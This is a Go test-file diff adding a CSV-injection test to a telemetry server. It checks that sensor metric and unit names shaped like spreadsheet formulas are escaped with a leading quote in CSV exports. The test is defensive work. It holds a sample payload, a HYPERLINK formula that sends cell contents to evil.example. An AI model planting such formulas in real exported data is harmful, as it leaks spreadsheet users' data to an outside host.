@@ -4,6 +4,7 @@ import (
 	"encoding/csv"
 	"fmt"
 	"net/http"
+	"net/url"
 	"reflect"
 	"strings"
 	"testing"
@@ -121,5 +122,39 @@ func TestRun_LatestCSVAndMetricsReadings(t *testing.T) {
 		t.Errorf("status: %d without store.checkpoints", code)
 	} else if n := *status.Store.Checkpoints; n != 0 {
 		t.Errorf("status: store.checkpoints %d; want 0 after the queries", n)
+	}
+}
+
+// TestRun_CSVInjection: a sensor that names its metric and unit like
+// spreadsheet formulas (names may begin with '=', '+', '-' or '@') gets
+// them into the CSV of /readings and /stats only as text: a single
+// quote in front, the cell quoted; its negative value stays a number.
+func TestRun_CSVInjection(t *testing.T) {
+	d := startCairn(t, cairnBinary.get(t), writeConfig(t, t.TempDir(), telemetryConfig(`{}`, "")))
+	pub := mustConnect(t, d.mqtt, "csv-publisher")
+	const metric = `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	at := time.Now().Add(-time.Minute).Truncate(time.Millisecond)
+	sec := fmt.Sprintf("%d.%03d", at.Unix(), at.Nanosecond()/1e6)
+	senml := fmt.Sprintf(`[{"n":%q,"u":"@SUM(A1:A9)","v":-3.5,"t":%s},{"n":"-1+1","u":"+1","v":-0.25,"t":%[2]s}]`, metric, sec)
+	if err := publish1(pub, "sensors/lab/telemetry", senml); err != nil {
+		t.Fatal(err)
+	}
+	api := newAPIClient(d.http)
+	code, body, err := api.fetch("/v1/devices/lab/readings?format=csv&from=-1h&order=asc")
+	if err != nil || code != http.StatusOK {
+		t.Fatalf("readings CSV: %d %v %s", code, err, body)
+	}
+	ts := at.UTC().Format(time.RFC3339Nano)
+	for _, line := range []string{
+		ts + `,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",-3.5,"'@SUM(A1:A9)"`,
+		ts + `,"'-1+1",-0.25,"'+1"`,
+	} {
+		if !strings.Contains(string(body), "\n"+line+"\n") {
+			t.Errorf("readings CSV: no line %s in\n%s", line, body)
+		}
+	}
+	code, body, err = api.fetch("/v1/devices/lab/stats?format=csv&metric=" + url.QueryEscape(metric))
+	if err != nil || code != http.StatusOK || !strings.Contains(string(body), `,1,-3.5,-3.5,-3.5,12.25,-3.5,0,"'@SUM(A1:A9)"`+"\n") {
+		t.Errorf("stats CSV: %d %v\n%s\nwant one group of -3.5 with the unit \"'@SUM(A1:A9)\"", code, err, body)
 	}
 }
